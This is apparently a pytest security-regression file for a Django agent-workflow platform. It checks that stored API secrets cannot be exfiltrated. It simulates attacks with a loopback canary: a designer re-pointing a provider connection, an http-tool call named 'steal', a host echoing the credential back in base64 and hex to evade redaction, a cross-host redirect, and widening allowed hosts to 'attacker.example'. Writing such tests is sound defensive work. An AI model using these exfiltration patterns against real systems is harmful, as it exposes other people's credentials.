"""Issue 14, finding 1: secrets are bound to their use.

A designer could read any secret: by pointing a provider connection at a host they control, by
sending it with the ``http`` tool to a host that echoes it back encoded (redaction knew only
the literal value), and provider calls skipped the egress rules. Here a canary HTTP receiver on
loopback records every request it gets, and must never see a secret it was not allowed; the
stored run (database rows and the API's view) must hold no secret in any encoding.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import importlib
import io
import json
import re
import time
import uuid
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote, quote_plus, unquote, unquote_plus, urlsplit

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from pytest_django.fixtures import Settings

from agents import redaction, runtime
from agents.connections import connection_create
from agents.models import ProviderConnection, Secret, SecretBinding
from agents.secrets import secret_bind, secret_set
from controlroom.accounts import token_issue, user_ensure
from controlroom.roles import Role
from flows.engine import runs
from flows.models import Run, RunEvent, Step
from tests.support.fake_llm import FakeLLM, openai_text
from tests.support.flows import document, drive, node, save
from tests.support.loopback_http import LoopbackHTTP, Received, Reply, egress_configure

pytestmark = pytest.mark.django_db

JSON = "application/json"


# --- the cast and the canary -------------------------------------------------------------------


@pytest.fixture
def cast() -> dict[str, Any]:
    users = {role.value: user_ensure(username=role.value, role=role) for role in Role}
    users["outsider"] = get_user_model().objects.create_user(username="outsider")
    return users


@pytest.fixture
def api(cast: dict[str, Any]) -> Callable[[str], Client]:
    """``api("designer")``: a client sending that user's bearer token."""
    return lambda name: Client(HTTP_AUTHORIZATION=f"Bearer {token_issue(user=cast[name])}")


@pytest.fixture
def web(cast: dict[str, Any]) -> Callable[[str], Client]:
    """``web("designer")``: a browser-like client logged in as that user."""

    def client_for(name: str) -> Client:
        client = Client()
        client.force_login(cast[name])
        return client

    return client_for


@pytest.fixture
def admin_key() -> str:
    """An admin's provider key, as an admin stores it; bound to nothing yet."""
    value = f"sk-admin-{uuid.uuid4().hex}{uuid.uuid4().hex}"
    secret_set(name="openai-prod", value=value, description="the production OpenAI key")
    return value


@pytest.fixture
def canary(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Iterator[LoopbackHTTP]:
    """A receiver on loopback that an attacker controls. Loopback is open through the egress
    allowlist, so only the secret's binding stands between it and the key."""
    with LoopbackHTTP() as server:
        egress_configure(settings, monkeypatch, "127.0.0.1")
        yield server


def _encodings(value: str) -> list[str]:
    raw = value.encode()
    return [value, raw.hex(), raw.hex().upper(), base64.b64encode(raw).decode()]


def _decoded_views(text: str) -> Iterator[str]:
    """``text`` and everything a base64, hex or percent-encoded run inside it decodes to: a
    stored output holds a secret if any of these does."""
    yield text
    yield unquote(text)
    yield unquote_plus(text)
    for run in re.findall(r"[A-Za-z0-9+/_-]{12,}={0,2}", text):
        for shift in range(4):  # the run may start mid-group
            chunk = run[shift:].rstrip("=")
            chunk = chunk[: len(chunk) - len(chunk) % 4]
            for decode in (base64.b64decode, base64.urlsafe_b64decode):
                with contextlib.suppress(binascii.Error, ValueError):
                    yield decode(chunk + "==").decode("latin-1")
    for run in re.findall(r"(?:[0-9a-fA-F]{2}){6,}", text):
        for shift in (0, 1):
            body = run[shift:]
            yield bytes.fromhex(body[: len(body) - len(body) % 2]).decode("latin-1")


def _holds(text: str, secret: str) -> bool:
    return any(secret in view for view in _decoded_views(text))


def _where(text: str, secret: str) -> list[str]:
    return [view[:300] for view in _decoded_views(text) if secret in view]


def _stored(run: Run) -> str:
    steps = list(Step.objects.filter(run=run).values())
    events = list(RunEvent.objects.filter(run=run).values())
    return json.dumps([Run.objects.filter(id=run.id).values().get(), steps, events], default=str)


def _http_flow(slug: str, **args: Any) -> Run:
    flow = save(document(slug, [node("call", "tool", tool="http", args=args)], []))
    run, _ = runs.run_start(flow=flow, input={})
    return drive(run)


def _agent_flow(slug: str, connection: str) -> Run:
    agent = {"slug": "helper", "provider": "openai", "model": "gpt-x", "connection": connection}
    doc = document(slug, [node("ask", "agent", agent="helper", prompt="hi")], [], agents=[agent])
    run, _ = runs.run_start(flow=save(doc), input={})
    return drive(run)


def _connection_form(client: Client, url: str, **fields: Any) -> None:
    response = client.post(url, {"kind": "openai", "timeout_seconds": "5", **fields})
    assert response.status_code == 302, response.content[:800]


# --- (a) the provider base URL attack ----------------------------------------------------------


def test_a_designers_connection_to_their_host_never_receives_an_admin_key(
    web: Callable[[str], Client], canary: LoopbackHTTP, admin_key: str
) -> None:
    _connection_form(
        web("designer"),
        reverse("connection_new"),
        slug="mine",
        base_url=canary.url("/v1"),
        api_key="openai-prod",
    )
    run = _agent_flow("exfiltrate", "mine")
    assert not canary.saw(admin_key)
    assert run.status == "failed"
    step = Step.objects.get(run=run)
    assert step.error_class == "domain"
    assert "secret 'openai-prod'" in step.error
    assert f"127.0.0.1:{canary.port}" in step.error
    assert "admin must allow" in step.error
    assert not canary.saw(admin_key)
    assert SecretBinding.objects.count() == 0  # a designer's save binds nothing


def test_re_pointing_a_bound_connection_stops_its_key(
    web: Callable[[str], Client], canary: LoopbackHTTP, admin_key: str
) -> None:
    with FakeLLM("openai") as real:
        real.push(openai_text("hello from the real server"))
        _connection_form(
            web("admin"),
            reverse("connection_new"),
            slug="prod",
            base_url=real.url,
            api_key="openai-prod",
        )
        assert _agent_flow("before", "prod").status == "succeeded"
        assert real.requests[0].headers["authorization"] == f"Bearer {admin_key}"
    _connection_form(
        web("designer"),
        reverse("connection_edit", args=["prod"]),
        base_url=canary.url("/v1"),
        api_key="openai-prod",
    )
    run = _agent_flow("after", "prod")
    assert not canary.saw(admin_key)
    assert run.status == "failed"
    assert "bind the secret to the connection as it is now" in Step.objects.get(run=run).error
    assert not canary.saw(admin_key)


# --- (b) the http tool attack ------------------------------------------------------------------


def test_the_http_tool_refuses_a_secret_not_allowed_for_the_host(
    canary: LoopbackHTTP, admin_key: str
) -> None:
    run = _http_flow("steal", url=canary.url("/echo"), auth={"secret": "openai-prod"})
    assert not canary.saw(admin_key)
    assert run.status == "failed"
    step = Step.objects.get(run=run)
    assert step.error_class == "domain" and step.attempt == 1  # refused, not retried
    assert "secret 'openai-prod'" in step.error
    assert f"127.0.0.1:{canary.port}" in step.error
    assert "admin must allow" in step.error
    assert canary.connections == 0 and not canary.saw(admin_key)


def test_a_host_echoing_the_credential_encoded_stores_none_of_it(
    canary: LoopbackHTTP, admin_key: str, api: Callable[[str], Client]
) -> None:
    secret_bind(name="openai-prod", allowed_hosts=[f"127.0.0.1:{canary.port}"])

    def echo_encoded(received: Received) -> Reply:
        header = received.headers.get("authorization", "").encode()
        return Reply(
            body={
                "b64": base64.b64encode(header).decode(),
                "urlsafe": base64.urlsafe_b64encode(header).decode().rstrip("="),
                "bare": base64.b64encode(header.split(b" ", 1)[-1]).decode(),
                "hex": header.hex(),
                "HEX": header.hex().upper(),
                "quoted": quote(header.decode(), safe=""),
                "plus": quote_plus(header.decode()),
                "escaped": "".join(f"%{byte:02X}" for byte in header),
            }
        )

    canary.respond("/echo", echo_encoded)
    run = _http_flow("echo", url=canary.url("/echo"), auth={"secret": "openai-prod"})
    assert run.status == "succeeded", run.error
    assert canary.saw(admin_key)  # it was allowed there, and sent
    stored = _stored(run)
    assert '"b64"' in stored
    assert not _holds(stored, admin_key), _where(stored, admin_key)
    shown = api("viewer").get(f"/api/runs/{run.id}")
    assert shown.status_code == 200
    assert not _holds(shown.content.decode(), admin_key)


def test_an_allowed_credential_does_not_follow_a_redirect_to_another_host(
    canary: LoopbackHTTP, admin_key: str
) -> None:
    secret_bind(name="openai-prod", allowed_hosts=[f"127.0.0.1:{canary.port}"])
    with LoopbackHTTP() as elsewhere:
        canary.route("/go", Reply(status=302, headers={"Location": elsewhere.url("/landed")}))
        auth = {"secret": "openai-prod", "header": "X-Api-Key", "scheme": ""}
        run = _http_flow("hop", url=canary.url("/go"), auth=auth)
        assert run.status == "succeeded", run.error
        assert len(elsewhere.received("/landed")) == 1
        assert not elsewhere.saw(admin_key)


# --- (c) provider calls follow the egress rules ------------------------------------------------


def test_a_provider_base_url_on_loopback_is_refused_unless_allow_listed(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    spec = {"slug": "t", "provider": "openai", "model": "gpt-x", "connection": "local"}
    step = runtime.StepRef(run_id=str(uuid.uuid4()), step_id=1, attempt=1, key="k")
    with FakeLLM("openai") as server:
        connection_create(slug="local", kind="openai", base_url=server.url, timeout_seconds=5)
        egress_configure(settings, monkeypatch, "")
        with pytest.raises(runtime.AgentError) as refused:
            runtime.agent_invoke(spec=spec, prompt="hi", variables={}, call_number=0, step=step)
        assert not isinstance(refused.value, runtime.AgentTransientError)
        assert "refused 127.0.0.1: a loopback address" in str(refused.value)
        assert server.requests == []

        egress_configure(settings, monkeypatch, f"127.0.0.1:{urlsplit(server.url).port}")
        server.push(openai_text("allowed"))
        answer = runtime.agent_invoke(
            spec=spec, prompt="hi", variables={}, call_number=0, step=step
        )
        assert answer.output == "allowed"


def test_a_provider_host_resolving_to_loopback_is_refused(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The check is on the resolved address, not the spelling of the URL."""
    spec = {"slug": "t", "provider": "openai", "model": "gpt-x", "connection": "named"}
    step = runtime.StepRef(run_id=str(uuid.uuid4()), step_id=1, attempt=1, key="k")
    with FakeLLM("openai") as server:
        port = urlsplit(server.url).port
        connection_create(slug="named", kind="openai", base_url=f"http://localhost:{port}/v1")
        egress_configure(settings, monkeypatch, "")
        with pytest.raises(runtime.AgentError, match=r"refused localhost \(.*\): a loopback"):
            runtime.agent_invoke(spec=spec, prompt="hi", variables={}, call_number=0, step=step)
        assert server.requests == []


# --- only admins set or widen a binding ----------------------------------------------------------


def test_only_admins_widen_where_a_secret_may_go(
    api: Callable[[str], Client], web: Callable[[str], Client], admin_key: str
) -> None:
    widen = json.dumps({"allowed_hosts": ["*.attacker.example"]})
    for role in ("designer", "approver", "viewer"):
        response = api(role).patch("/api/secrets/openai-prod", widen, content_type=JSON)
        assert response.status_code == 403, response.content
        replaced = api(role).put(
            "/api/secrets/openai-prod",
            json.dumps({"value": "x" * 20, "allowed_hosts": ["attacker.example"]}),
            content_type=JSON,
        )
        assert replaced.status_code == 403
    form = {"name": "openai-prod", "allowed_hosts": "attacker.example", "value": ""}
    assert web("designer").post(reverse("secret_list"), form).status_code == 403
    shown = api("viewer").get("/api/secrets").json()["items"][0]
    assert shown["allowed_hosts"] == [] and shown["connections"] == []

    response = api("admin").patch("/api/secrets/openai-prod", widen, content_type=JSON)
    assert response.status_code == 200, response.content
    assert response.json()["allowed_hosts"] == ["*.attacker.example"]
    bad = api("admin").patch(
        "/api/secrets/openai-prod", json.dumps({"allowed_hosts": ["*.com"]}), content_type=JSON
    )
    assert bad.status_code == 422 and "two labels" in bad.json()["error"]["message"]
    assert admin_key not in response.content.decode()


def test_an_admins_form_save_binds_hosts_and_connections(
    web: Callable[[str], Client], api: Callable[[str], Client], admin_key: str
) -> None:
    connection_create(slug="gateway", kind="openai", base_url="https://llm.example.com/v1")
    form = {
        "name": "openai-prod",
        "description": "prod",
        "value": "",
        "allowed_hosts": "api.example.com\n*.example.org:8443",
        "connections": ["gateway"],
    }
    response = web("admin").post(reverse("secret_list"), form)
    assert response.status_code == 302, response.content[:800]
    shown = api("viewer").get("/api/secrets").json()["items"][0]
    assert shown["allowed_hosts"] == ["api.example.com", "*.example.org:8443"]
    assert shown["connections"] == [{"slug": "gateway", "current": True}]
    assert redaction.redact(admin_key) == redaction.REDACTED  # value kept, still known


# --- existing secrets after the migration --------------------------------------------------------


def test_the_migration_binds_each_secret_to_the_connections_referencing_it(
    admin_key: str,
) -> None:
    secret = secret_set(name="unused", value="u" * 20)
    ProviderConnection.objects.create(
        slug="old",
        kind="openai",
        base_url="https://gw.example/v1",
        api_key=Secret.objects.get(name="openai-prod"),
    )
    migration = importlib.import_module("agents.migrations.0007_secret_bindings")
    migration.bind_to_referencing_connections(apps, None)
    [binding] = SecretBinding.objects.all()
    assert (binding.secret.name, binding.connection.slug) == ("openai-prod", "old")
    assert binding.current
    assert not SecretBinding.objects.filter(secret=secret).exists()


# --- redaction stays cheap ------------------------------------------------------------------------


def test_redaction_of_every_encoding_stays_cheap_with_many_secrets() -> None:
    values = [f"key-{uuid.uuid4().hex}{uuid.uuid4().hex}" for _ in range(200)]
    known = redaction._Known()
    started = time.perf_counter()
    known.update(loaded=values)
    compiled = time.perf_counter() - started
    assert known.pattern is not None
    text = json.dumps({"items": [{"id": n, "status": "ok", "note": "fine"} for n in range(600)]})
    text += base64.b64encode(f"Bearer {values[7]}".encode()).decode()
    started = time.perf_counter()
    for _ in range(10):
        cleaned = known.pattern.sub(redaction.REDACTED, text)
    per_call = (time.perf_counter() - started) / 10
    assert redaction.REDACTED in cleaned and not _holds(cleaned, values[7])
    # ~25 KB against 200 secrets x 17 encodings; a plain alternation takes ~10x longer.
    assert per_call < 0.05, f"{per_call * 1000:.1f} ms per 25 KB"
    assert compiled < 5.0


def test_the_set_secret_command_sets_where_a_secret_may_go(admin_key: str) -> None:
    out = io.StringIO()
    call_command(
        "set_secret",
        "openai-prod",
        "--keep-value",
        "--allow-host",
        "API.Example.com.",
        "--allow-host",
        "[::1]:8080",
        stdout=out,
    )
    secret = Secret.objects.get(name="openai-prod")
    assert secret.allowed_hosts == ["api.example.com", "[::1]:8080"]
    assert secret.description == "the production OpenAI key"  # kept
    with pytest.raises(CommandError, match="not a host pattern"):
        call_command("set_secret", "openai-prod", "--keep-value", "--allow-host", "a b")
    assert admin_key not in out.getvalue()
